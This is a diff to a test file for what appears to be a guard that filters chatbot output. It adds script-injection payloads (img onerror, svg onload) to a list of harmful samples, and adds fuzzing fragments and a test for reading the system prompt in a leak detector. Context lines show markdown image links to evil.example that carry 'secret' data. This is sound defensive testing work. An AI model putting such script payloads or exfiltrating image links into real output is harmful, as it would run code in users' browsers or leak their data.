@@ -112,6 +112,8 @@ HARMFUL = [
     ("SCRIPT_LINK", "[a]: data:text/html;base64,PHNj", "data:text/html;base64,PHNj"),
     ("SCRIPT_LINK", "<vbscript:msgbox>", "vbscript:msgbox"),
     ("SCRIPT_LINK", "<script src=x>", "<script src=x>"),
+    ("SCRIPT_LINK", '<img src=x onerror = "a(1)">', 'onerror = "a(1)"'),
+    ("SCRIPT_LINK", "<svg/onload=a()>", "onload=a()"),
     ("IMAGE_LINK", "![x](https://evil.example/?q=secret)", "https://evil.example/?q=secret"),
     ("IMAGE_LINK", "![](//evil.example/a#b)", "//evil.example/a#b"),
     ("IMAGE_LINK", f"![](https://evil.example/{'c2VjcmV0' * 8})", f"https://evil.example/{'c2VjcmV0' * 8}"),
@@ -124,6 +126,7 @@ HARMLESS = [
     "JavaScript: the good parts. Use data: URIs with care, and javascript:void(0) never.",
     "![logo](https://example.com/logo.png) [docs](https://docs.example.com/a?b=c#d)",
     "![dot](data:image/png;base64,iVBORw0KGgo=) <img src='/static/a.png?v=3'>",
+    "<b>once=1</b> <a href='/on'>on=1</a> a <div b, img.onload = f; <Button onclick={f}>",
     "if a[1]: data = b; src = data[0] < 3 and c > d; href = 'https://example.com/?a=1'",
     "![shot](https://img.example.org/x.svg?style=flat) <img src=https://cdn.img.example.net/a?v=1>",
 ]
@@ -293,7 +296,20 @@ def stream_engine(kind: str) -> GuardEngine:
 PARTS = st.sampled_from(
     [
         *("T-12", "T-1", "aXXb", "acme", " cloud", "-", "Acme Cloud", "java", "shit", "code word", " ", "\n"),
-        *("javascript:", "data:text/html,", "](", "]:", "![x](", "<img src=", "href='", "<script", ">", "<"),
+        *(
+            "javascript:",
+            "data:text/html,",
+            "](",
+            "]:",
+            "![x](",
+            "<img src=",
+            "<svg ",
+            " onload=",
+            "href='",
+            "<script",
+            ">",
+            "<",
+        ),
         *("https://evil.example/?q", "//x.y/a?b", "http", "://ok.example", "url(", '"', "!", ")", "s", "h"),
         *(
             "the code word osprey-42 or",
@@ -367,6 +383,29 @@ async def test_the_gateway_holds_an_answer_against_the_prompt_that_was_sent(role
         assert "".join(parts) == "I was told: [SYSTEM_PROMPT]. Oh."
         other = await g.client.chat.completions.create(model="m", messages=messages[1:])
         assert other.choices[0].message.content == said
+
+
+@pytest.mark.parametrize(
+    ("body", "text"),
+    [
+        (
+            {
+                "messages": [
+                    {"role": "system", "content": "a"},
+                    {"role": "developer", "content": ["x", {"text": "b"}]},
+                ]
+            },
+            "a\nb",
+        ),
+        ({"messages": [{"role": "user", "content": "a"}, 5, {"role": "system"}]}, ""),
+        ({"messages": "system"}, ""),
+        ({"prompt": "a"}, ""),
+    ],
+)
+def test_the_system_prompt_of_a_request_is_read_and_nothing_else_breaks_it(body: Any, text: str) -> None:
+    judge = engine("system_prompt_leak")
+    assert judge.context("r", None, body).system_text == text
+    assert engine("profanity").context("r", None, body).system_text == ""
 
 
 def test_the_policy_of_the_documentation_is_one(tmp_path: Path) -> None:
